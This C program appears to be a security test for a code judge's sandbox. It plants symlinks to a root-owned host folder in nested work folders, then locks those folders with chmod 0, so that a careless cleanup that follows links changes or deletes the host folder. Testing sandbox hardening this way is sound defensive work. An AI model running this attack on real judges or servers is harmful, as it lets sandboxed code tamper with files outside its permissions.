/* Attack: turn the judge's cleanup against the host. Leave symlinks to a
 * root-owned folder of the host (@TARGET_DIR@, made by the test) in the
 * work folder and in a subfolder, then make the program's own folders
 * unwritable and unsearchable (chmod 0), so that a cleanup that "unlocks"
 * folders or follows links (chmod, chown, delete) hits the host's folder.
 * Success is seen from outside: the target folder's mode, owner or
 * contents changed (checked by the test). The program prints -1. */
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    symlink("@TARGET_DIR@", "link");
    symlink("@TARGET_DIR@/file", "link-file");
    mkdir("sub", 0700);
    symlink("@TARGET_DIR@", "sub/link");
    symlink("@TARGET_DIR@/file", "sub/link-file");
    mkdir("sub/deeper", 0700);
    symlink("@TARGET_DIR@", "sub/deeper/link");
    /* A folder replaced by a link once the cleanup has listed it. */
    symlink("@TARGET_DIR@", "sub/deeper/zz");
    chmod("sub/deeper", 0);
    chmod("sub", 0);
    chmod(".", 0);
    puts("-1");
    return 0;
}
